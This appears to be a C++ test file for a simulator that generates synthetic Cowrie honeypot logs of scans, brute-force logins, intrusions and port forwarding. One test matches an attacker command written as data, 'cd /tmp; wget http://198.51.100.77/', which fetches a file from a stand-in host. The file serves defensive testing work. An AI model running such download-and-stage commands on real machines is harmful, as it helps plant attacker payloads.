#include "simulate/honeypot.h"

#include "simulate/testing.h"

#include <map>

namespace vedette::simulate {
namespace {

std::string session_of(std::string_view line) {
  constexpr std::string_view kKey = R"("session":")";
  return std::string(line.substr(line.find(kKey) + kKey.size(), 12));
}

TEST_SUITE("simulate/honeypot") {
  TEST_CASE("every session begins with a connection, ends with its end, and is of one source") {
    Options options =
        options_for("cowrie", "honeypot-scan,honeypot-brute-force,honeypot-intrusion");
    options.attackers = 30;
    std::map<std::string, std::vector<Line>> sessions;
    for (const Line& line : all_lines(options)) sessions[session_of(line.text)].push_back(line);
    CHECK(sessions.size() > 30);
    std::size_t unfinished = 0;
    for (const auto& [id, lines] : sessions) {
      CHECK(contains(lines.front().text, R"({"eventid":"cowrie.session.connect")"));
      unfinished += contains(lines.back().text, R"("cowrie.session.closed")") ? 0 : 1;
      for (const Line& line : lines) REQUIRE(line.fact.source == lines.front().fact.source);
    }
    CHECK(unfinished <= 1);  // the day may be over before it is
  }

  TEST_CASE("an intruder logs in, types, fetches a file and hides") {
    Options options = options_for("cowrie", "honeypot-intrusion");
    options.attackers = 12;
    const auto lines = all_lines(options);
    CHECK(count_with(lines, R"("cowrie.login.success")") >= 12);
    CHECK(count_with(lines, R"("cowrie.command.input")") > 48);
    CHECK(count_with(lines, R"("cowrie.session.file_download")") > 4);
    CHECK(count_with(lines, R"("message":"CMD: cd /tmp; wget http://198.51.100.77/)") >= 12);
  }

  TEST_CASE("a forwarder asks for other hosts") {
    const auto lines = all_lines(options_for("cowrie", "honeypot-forward"));
    CHECK(count_with(lines, R"("cowrie.direct-tcpip.request")") >= 8);
    CHECK(count_with(lines, R"("dst_ip":"198.51.100.)") >= 8);
  }

  TEST_CASE("someone at a keyboard thinks between commands, mistypes, and fetches nothing") {
    const auto lines = planted_lines(scene_for("cowrie", "honeypot-operator"));
    std::vector<Time> typed;
    for (const Line& line : lines) {
      if (contains(line.text, R"("cowrie.command.input")")) typed.push_back(line.time);
    }
    REQUIRE(typed.size() >= 28);
    for (std::size_t i = 1; i < typed.size(); ++i)
      CHECK(typed[i] - typed[i - 1] > std::chrono::milliseconds{200});
    CHECK(count_with(lines, R"("cowrie.command.failed")") > 0);
    CHECK(count_with(lines, R"("cowrie.session.file_download")") == 0);
  }
}

}  // namespace
}  // namespace vedette::simulate
